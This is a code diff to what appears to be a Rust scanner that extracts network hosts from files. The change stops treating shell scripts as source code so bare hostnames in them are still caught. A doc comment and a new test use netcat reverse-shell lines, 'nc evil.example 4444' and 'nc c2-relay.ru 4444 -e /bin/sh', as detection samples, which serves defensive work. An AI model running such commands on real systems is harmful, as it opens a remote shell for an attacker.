@@ -299,13 +299,16 @@ fn inline_comment(before: &[u8]) -> bool {
     })
 }
 
-/// Whether a file is source code, by its name.
+/// Whether a file is source code of a language where `name.member` is
+/// code, by its name: there a bare host must be a string literal to count
+/// (see [`source_strings`]). Shell scripts are not among them: `nc
+/// evil.example 4444` names a host without quotes.
 pub fn is_source(path: &str) -> bool {
     let lower = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
     [
         ".js", ".mjs", ".cjs", ".ts", ".mts", ".cts", ".jsx", ".tsx", ".py", ".pyi", ".rs", ".go",
         ".java", ".kt", ".c", ".h", ".cc", ".cpp", ".hpp", ".cs", ".rb", ".php", ".lua", ".pl",
-        ".sh", ".ps1", ".vbs", ".swift", ".scala",
+        ".ps1", ".vbs", ".swift", ".scala",
     ]
     .iter()
     .any(|x| lower.ends_with(x))
@@ -411,6 +414,12 @@ mod tests {
         assert!(comments.contains("docs.example.org"));
         assert!(comments.contains("https://www.rfc-editor.org/rfc/rfc8259"));
         assert!(comments.contains("https://docs.python.org/3/x"));
+    }
+
+    #[test]
+    fn shell_scripts_keep_their_bare_hosts() {
+        assert!(!is_source("pkg/install.sh"));
+        assert!(network_strings(b"nc c2-relay.ru 4444 -e /bin/sh\n").contains("c2-relay.ru"));
     }
 
     #[test]
